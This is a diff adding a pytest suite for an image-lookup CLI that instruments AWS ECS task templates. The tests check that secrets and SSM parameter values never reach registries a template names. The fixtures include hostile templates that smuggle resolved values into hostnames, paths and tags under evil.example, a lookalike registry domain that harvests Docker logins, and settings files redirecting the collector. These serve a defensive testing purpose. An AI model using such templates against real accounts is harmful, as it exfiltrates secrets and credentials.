@@ -1,0 +1,422 @@
+"""The document, the files found near it, and the caller: nothing of the caller's goes to whom only the others name."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from cli.running import Ran, run
+from lookup.certificates import Authority
+from lookup.network import Call, FakeRegistry, Network, Reply, basic
+from sysdig_instrument.lookup import answers, aws
+
+ACCOUNT = "111122223333"
+THEIRS = "999988887777"
+VALUE = "account-valued1"
+OTHER_VALUE = "another-value-2"
+LOGIN = {"username": "admin", "password": "from-the-account"}
+SETTINGS = ("--region", "eu-west-1", "--set", "Collector=us2")
+
+
+@dataclass
+class FakeAccount:
+    """An AWS account with a value under every name, a login in every secret, and no image in any repository."""
+
+    value: str = VALUE
+    calls: list[tuple[str, str, dict[str, Any]]] = field(default_factory=list)
+
+    def client(self, service: str, region_name: str, **_: object) -> FakeClient:
+        return FakeClient(self, service, region_name)
+
+    def called(self, service: str) -> list[dict[str, Any]]:
+        return [parameters for name, _, parameters in self.calls if name == service]
+
+
+@dataclass
+class FakeClient:
+    """A client of one of the account's services."""
+
+    account: FakeAccount
+    service: str
+    region: str
+
+    def _record(self, **parameters: Any) -> None:
+        self.account.calls.append((self.service, self.region, parameters))
+
+    def get_secret_value(self, **parameters: Any) -> dict[str, Any]:
+        self._record(**parameters)
+        return {"SecretString": json.dumps(LOGIN)}
+
+    def get_parameters(self, **parameters: Any) -> dict[str, Any]:
+        self._record(**parameters)
+        return {
+            "Parameters": [
+                {"Name": name, "ARN": name, "Type": "String", "Value": self.account.value}
+                for name in parameters["Names"]
+            ]
+        }
+
+    def list_exports(self, **parameters: Any) -> dict[str, Any]:
+        self._record(**parameters)
+        return {"Exports": [{"Name": "Export", "Value": self.account.value}]}
+
+    def get_caller_identity(self) -> dict[str, Any]:
+        self._record()
+        return {"Account": ACCOUNT}
+
+    def batch_get_image(self, **parameters: Any) -> dict[str, Any]:
+        self._record(**parameters)
+        return {"failures": [{"imageId": each, "failureCode": "ImageNotFound"} for each in parameters["imageIds"]]}
+
+
+class World:
+    """The account of the caller, and a network with registries that answer to every name."""
+
+    def __init__(self, network: Network, account: FakeAccount) -> None:
+        self.network, self.account = network, account
+
+    def registry(self, name: str, *, login: Mapping[str, str] | None = None) -> list[Call]:
+        """Add a registry with the image ``app:1``, and return the calls that it receives."""
+        registry = FakeRegistry()
+        registry["app"].image("1", entrypoint=["/app"])
+        if login:
+            wanted = basic(login["username"], login["password"])
+            challenge = Reply(401, headers={"WWW-Authenticate": 'Basic realm="x"'})
+            registry.answer_first = lambda call: None if call.authorization == wanted else challenge
+        return self.network.site(name, registry).calls
+
+    @property
+    def seen_by_others(self) -> tuple[object, ...]:
+        """All that leaves the caller's account: names that are resolved, requests, and calls that another account can log."""
+        names = sorted(set(self.network.resolved_names))
+        calls = sorted(
+            (call.host, call.target, call.authorization or "")
+            for site in self.network.sites.values()
+            for call in site.calls
+        )
+        aws_calls = [
+            str(each) for name, _, each in self.account.calls if name == "ecr" and each["registryId"] != ACCOUNT
+        ]
+        return names, calls, aws_calls
+
+    def forget(self) -> None:
+        """Start again, as a new process would."""
+        self.network.resolved_names.clear()
+        self.account.calls.clear()
+        for site in self.network.sites.values():
+            site.calls.clear()
+
+    @property
+    def revealed(self) -> bool:
+        """Whether a value of the account went anywhere but to the account itself."""
+        return self.account.value in str(self.seen_by_others)
+
+
+@pytest.fixture(scope="module")
+def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
+    return Authority(tmp_path_factory.mktemp("authority"))
+
+
+@pytest.fixture
+def world(authority: Authority, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
+    network, account = Network(authority), FakeAccount()
+    make_environment = answers.LookupEnvironment
+    monkeypatch.setattr(
+        answers,
+        "LookupEnvironment",
+        lambda **given: make_environment(
+            **given,
+            resolve=network.resolve,
+            create_connection=network.connect,
+            make_ssl_context=lambda: authority.client,
+        ),
+    )
+    monkeypatch.setattr(aws, "boto3_session", lambda _profile: account)
+    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path))
+    monkeypatch.delenv("HTTPS_PROXY", raising=False)
+    monkeypatch.delenv("https_proxy", raising=False)
+    monkeypatch.chdir(tmp_path)
+    yield World(network, account)
+    network.close()
+
+
+def template(
+    image: object,
+    *more_images: object,
+    task: Mapping[str, Any] | None = None,
+    properties: Mapping[str, Any] | None = None,
+    **sections: Any,
+) -> bytes:
+    """Return a template with a container for each image. None of them has an EntryPoint."""
+    containers = [{"Name": f"web{number}", "Image": each} for number, each in enumerate((image, *more_images))]
+    fargate = {"RequiresCompatibilities": ["FARGATE"], "ExecutionRoleArn": "arn:aws:iam::111122223333:role/x"}
+    members = {**fargate, **(properties or {}), "ContainerDefinitions": containers}
+    api = {"Type": "AWS::ECS::TaskDefinition", "Properties": members}
+    return json.dumps({"Resources": {"Api": {**api, **(task or {})}}, **sections}).encode()
+
+
+def explain(capsys: pytest.CaptureFixture[str], document: bytes, *arguments: str) -> Ran:
+    return run(capsys, "explain", "-", *SETTINGS, *arguments, stdin=document)
+
+
+def words(ran: Ran) -> str:
+    return " ".join((ran.out + ran.err).split())
+
+
+# --- secrets
+
+
+def private(secret: object, image: str = "registry.example.com/app:1") -> bytes:
+    document = json.loads(template(image))
+    container = document["Resources"]["Api"]["Properties"]["ContainerDefinitions"][0]
+    container["RepositoryCredentials"] = {"CredentialsParameter": secret}
+    return json.dumps(document).encode()
+
+
+@pytest.mark.parametrize("command", ["explain", "diff", "images", "transform"])
+def test_the_secret_that_a_document_names_is_not_read(
+    command: str, world: World, capsys: pytest.CaptureFixture[str]
+) -> None:
+    calls = world.registry("registry.example.com", login=LOGIN)
+    ran = run(capsys, command, "-", *SETTINGS, stdin=private("arn:aws:secretsmanager:eu-west-1:111122223333:secret:db"))
+    assert ran.code == 1
+    assert not world.account.called("secretsmanager")
+    assert {call.authorization for call in calls} == {None}
+    assert 'RegistryCredentials={"registry.example.com": "ARN of the secret"}' in words(ran)
+
+
+def test_the_secret_that_the_caller_names_for_a_registry_goes_there(
+    world: World, capsys: pytest.CaptureFixture[str]
+) -> None:
+    world.registry("registry.example.com", login=LOGIN)
+    calls = world.registry("other.example.com", login=LOGIN)
+    named = ("--set", 'RegistryCredentials={"registry.example.com": "registry/login"}')
+    assert explain(capsys, private("another"), *named).code == 0
+    assert world.account.called("secretsmanager") == [{"SecretId": "registry/login"}]
+    assert explain(capsys, private("registry/login", "other.example.com/app:1"), *named).code == 1
+    assert {call.authorization for call in calls} == {None}
+
+
+def test_the_login_in_dockers_configuration_goes_to_its_registry_only(
+    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    entry = {"username": LOGIN["username"], "password": LOGIN["password"]}
+    (tmp_path / "config.json").write_text(json.dumps({"auths": {"registry.example.com": entry}}))
+    world.registry("registry.example.com", login=LOGIN)
+    calls = world.registry("registry.example.com.evil.example", login=LOGIN)
+    assert explain(capsys, private("any")).code == 0
+    assert explain(capsys, private("any", "registry.example.com.evil.example/app:1")).code == 1
+    assert {call.authorization for call in calls} == {None}
+
+
+# --- SSM parameters and exports
+
+SSM = "{{resolve:ssm:/any}}"
+CHANCE = {"Fn::Equals": [SSM, VALUE]}
+LIST = {"Fn::Split": ["-", SSM]}
+
+REVEALING = {
+    "host": template(f"{SSM}.evil.example/app:1"),
+    "path": template(f"evil.example/{SSM}:1"),
+    "tag": template(f"evil.example/app:{SSM}"),
+    "whole": template(SSM),
+    "export": template({"Fn::Sub": ["evil.example/${X}:1", {"X": {"Fn::ImportValue": "Export"}}]}),
+    "typed parameter": template(
+        {"Fn::Sub": "evil.example/${P}:1"},
+        Parameters={"P": {"Type": "AWS::SSM::Parameter::Value<String>", "Default": "/any"}},
+    ),
+    "base64": template({"Fn::Join": ["", ["evil.example/app:", {"Fn::Base64": SSM}]]}),
+    "part": template({"Fn::Join": ["", ["evil.example/", {"Fn::Select": [1, LIST]}, ":1"]]}),
+    "map": template(
+        {"Fn::FindInMap": ["M", SSM, "Image"]},
+        Mappings={"M": {VALUE: {"Image": "yes.evil.example/app:1"}, OTHER_VALUE: {"Image": "no.evil.example/app:1"}}},
+    ),
+    "condition": template(
+        {"Fn::If": ["C", "yes.evil.example/app:1", "no.evil.example/app:1"]}, Conditions={"C": CHANCE}
+    ),
+    "whether it is needed": template(
+        "evil.example/app:1",
+        task={"Metadata": {"SysdigInstrument": {"Enabled": {"Fn::If": ["C", "true", "false"]}}}},
+        Conditions={"C": CHANCE},
+    ),
+    "whether the wrapper is there": template(
+        "evil.example/app:1",
+        task={"Condition": "C"},
+        Conditions={"C": CHANCE},
+    ),
+    "CPU architecture": template(
+        "evil.example/app:1",
+        properties={"RuntimePlatform": {"CpuArchitecture": {"Fn::FindInMap": ["M", SSM, "Cpu"]}}},
+        Mappings={"M": {VALUE: {"Cpu": "ARM64"}, OTHER_VALUE: {"Cpu": "X86_64"}}},
+    ),
+    "other account": template(f"{THEIRS}.dkr.ecr.eu-west-1.amazonaws.com/app:{SSM}"),
+    "account in the host": template(f"{SSM}.dkr.ecr.eu-west-1.amazonaws.com/app:1"),
+}
+
+
+@pytest.mark.parametrize("document", REVEALING.values(), ids=REVEALING)
+def test_others_cannot_tell_one_value_from_another(
+    document: bytes, world: World, capsys: pytest.CaptureFixture[str]
+) -> None:
+    for host in ("evil.example", "yes.evil.example", "no.evil.example"):
+        world.registry(host)
+    first = explain(capsys, document)
+    seen = world.seen_by_others
+    world.forget()
+    world.account.value = OTHER_VALUE
+    explain(capsys, document)
+    assert world.seen_by_others == seen
+    assert not world.revealed
+    assert VALUE not in first.out + first.err
+
+
+@pytest.mark.parametrize("name", ["host", "path", "export", "map", "other account"])
+def test_the_message_says_how_to_admit_a_registry(name: str, world: World, capsys: pytest.CaptureFixture[str]) -> None:
+    ran = explain(capsys, REVEALING[name])
+    assert ran.code == 1
+    assert "--set AllowedRegistries=HOST" in words(ran)
+    assert not world.network.resolved_names
+
+
+def test_a_value_goes_to_no_parameter_of_another_account(world: World, capsys: pytest.CaptureFixture[str]) -> None:
+    arn = f"arn:aws:ssm:eu-west-1:{THEIRS}:parameter/"
+    document = template("{{resolve:ssm:${X}}}")
+    image = {"Fn::Sub": ["{{resolve:ssm:" + arn + "${X}}}", {"X": SSM}]}
+    explain(capsys, document.replace(b'"{{resolve:ssm:${X}}}"', json.dumps(image).encode()))
+    assert [each["Names"] for each in world.account.called("ssm")] == [["/any"]]
+
+
+def test_images_that_depend_on_no_value_are_looked_up(world: World, capsys: pytest.CaptureFixture[str]) -> None:
+    calls = world.registry("registry.example.com")
+    explain(capsys, template("registry.example.com/app:1", f"evil.example/{SSM}:1"))
+    assert calls
+    assert not world.revealed
+
+
+@pytest.mark.parametrize(
+    ("names", "is_admitted"),
+    [
+        pytest.param("registry.example.com", True, id="the host"),
+        pytest.param("other.example.com,*.example.com", True, id="glob"),
+        pytest.param("*", False, id="every host"),
+        pytest.param("*.*", False, id="every host with a dot"),
+    ],
+)
+def test_the_caller_names_the_registries_that_may_see_values(
+    names: str, world: World, capsys: pytest.CaptureFixture[str], *, is_admitted: bool
+) -> None:
+    world.registry("registry.example.com")
+    explain(capsys, template(f"registry.example.com/{SSM}:1"), "--set", f"AllowedRegistries={names}")
+    assert world.revealed is is_admitted
+
+
+def test_a_settings_file_that_is_found_names_no_registry(
+    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (tmp_path / ".sysdig-instrument.yaml").write_text("AllowedRegistries: evil.example\n")
+    world.registry("evil.example")
+    explain(capsys, template(f"evil.example/{SSM}:1"))
+    assert not world.revealed
+
+
+@pytest.mark.parametrize(
+    ("repository", "arguments", "is_asked"),
+    [
+        pytest.param(f"{ACCOUNT}.dkr.ecr.eu-west-1", (), True, id="own account"),
+        pytest.param(f"{THEIRS}.dkr.ecr.eu-west-1", (), False, id="another account"),
+        pytest.param(f"{ACCOUNT}.dkr.ecr.us-east-1", (), False, id="another Region"),
+        pytest.param(f"{THEIRS}.dkr.ecr.eu-west-1", ("--account-id", THEIRS), True, id="account that the caller names"),
+        pytest.param(
+            f"{THEIRS}.dkr.ecr.us-east-1",
+            ("--set", f"AllowedRegistries={THEIRS}.dkr.ecr.us-east-1.amazonaws.com"),
+            True,
+            id="registry that the caller names",
+        ),
+    ],
+)
+def test_amazon_ecr_of_the_own_account_may_see_values(
+    repository: str, arguments: tuple[str, ...], world: World, capsys: pytest.CaptureFixture[str], *, is_asked: bool
+) -> None:
+    explain(capsys, template(f"{repository}.amazonaws.com/app:{SSM}"), *arguments)
+    assert bool(world.account.called("ecr")) is is_asked
+
+
+def test_a_no_echo_parameter_of_the_caller_stays_here(world: World, capsys: pytest.CaptureFixture[str]) -> None:
+    world.registry("evil.example")
+    parameters = {"P": {"Type": "String", "NoEcho": True}}
+    document = template({"Fn::Sub": "evil.example/${P}:1"}, "evil.example/app:1", Parameters=parameters)
+    explain(capsys, document, "-p", f"P={VALUE}")
+    assert not world.revealed
+    assert "evil.example" in world.network.resolved_names
+
+
+# --- the settings file that is found
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("InternalRegistries", "http://localhost:5000"),
+        ("RegistryCredentials", {"evil.example": "db"}),
+        ("TokenServices", {"ghcr.io": "evil.example"}),
+    ],
+)
+def test_a_found_file_does_not_widen_what_may_be_reached(
+    name: str, value: object, world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    file = tmp_path / ".sysdig-instrument.yaml"
+    file.write_text(json.dumps({name: value}))
+    ran = explain(capsys, template("evil.example/app:1"))
+    assert (ran.code, world.network.resolved_names) == (2, [])
+    assert f'Setting "{name}" in .sysdig-instrument.yaml does not count' in ran.err
+    assert "does not count" not in explain(capsys, template("evil.example/app:1"), "--settings", file.name).err
+
+
+@pytest.mark.parametrize(
+    ("locked", "found"),
+    [
+        ("Enabled", {"Enabled": False}),
+        ("ExcludeContainers", {"ExcludeContainers": "*"}),
+        ("Mode", {"Mode": "opt-in"}),
+        ("Collector", {"Collector": "eu1"}),
+        ("Collector", {"AgentEnvironment": {"SYSDIG_COLLECTOR": "evil.example"}}),
+        ("Collector", {"LockedSettings": "Mode", "Collector": "eu1"}),
+    ],
+)
+def test_the_callers_locks_bind_a_found_file(
+    locked: str, found: dict[str, Any], world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    del world
+    (tmp_path / ".sysdig-instrument.yaml").write_text(json.dumps(found))
+    ran = explain(capsys, template("registry.example.com/app:1"), "--offline", "--set", f"LockedSettings={locked}")
+    assert ran.code == 2
+    assert "locked by --set" in ran.err
+
+
+def test_a_found_file_is_named_where_it_decides(
+    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    del world
+    (tmp_path / ".sysdig-instrument.yaml").write_text("Enabled: false\n")
+    assert "Enabled is false in .sysdig-instrument.yaml" in words(explain(capsys, template("a.example/app:1")))
+
+
+def test_the_caller_takes_precedence_over_a_found_file(
+    world: World, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    del world
+    (tmp_path / ".sysdig-instrument.yaml").write_text(
+        "Collector: eu1\nPriority: security\nAllowedRegistries: a.example\n"
+    )
+    shown = run(capsys, "settings", "-", *SETTINGS, "--format", "json", stdin=template("a.example/app:1")).value
+    settings = shown[0]["taskDefinitions"][0]["settings"]
+    assert {name: each["value"] for name, each in settings.items() if each["layer"] != "default"} == {
+        "Collector": "us2",
+        "Priority": "security",
+        "AllowedRegistries": "a.example",
+    }
